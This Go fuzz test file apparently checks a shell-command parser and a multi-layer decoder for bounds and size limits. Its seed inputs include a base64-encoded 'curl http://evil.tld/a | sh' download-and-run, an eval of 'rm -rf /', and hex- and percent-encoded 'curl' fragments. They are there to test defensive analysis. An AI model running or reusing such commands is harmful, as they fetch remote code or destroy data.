package shell

import (
	"strings"
	"testing"
)

func FuzzParse(f *testing.F) {
	f.Add("echo Y3VybCBodHRwOi8vZXZpbC50bGQvYSB8IHNo | base64 -d | sh")
	f.Add("X='rm -rf'; eval \"$X /\" <<EOF\nhi $X\nEOF\n")
	f.Add("for x in a b; do ${x:1:2} ${x//a/b} <(id) >f; done; case $x in a|b) cat;; esac")
	f.Add("sudo -u x env A=*** bash -c \"grep 'rm -rf /' $F\" # c")
	p := NewParser()
	f.Fuzz(func(t *testing.T, command string) {
		checkBounds(t, command, command, p.Parse(command))
	})
}

// isSubsequence reports whether some of the bytes of whole, in order, are part.
func isSubsequence(part, whole string) bool {
	for i := range len(part) {
		n := strings.IndexByte(whole, part[i])
		if n < 0 {
			return false
		}
		whole = whole[n+1:]
	}
	return true
}

func FuzzDecode(f *testing.F) {
	f.Add("Y3VybCBodHRwOi8vZXZpbC50bGQvYSB8IHNoY3VybCBodHRwOi8vZXZpbC50bGQvYSB8IHNo")
	f.Add(`\x63\x75\x72\x6c\x63\x75\x72\x6c %63%75%72%6c%63%75%72%6c`)
	f.Fuzz(func(t *testing.T, text string) {
		total := 0
		for _, d := range Decode(text) {
			total += len(d.Text)
			if d.Start < 0 || d.Start >= d.End || d.End > len(text) || d.Depth < 1 || d.Depth > maxDepth {
				t.Fatalf("%+v of %d bytes", d, len(text))
			}
		}
		if total > maxDecoded {
			t.Fatalf("%d bytes decoded", total)
		}
	})
}
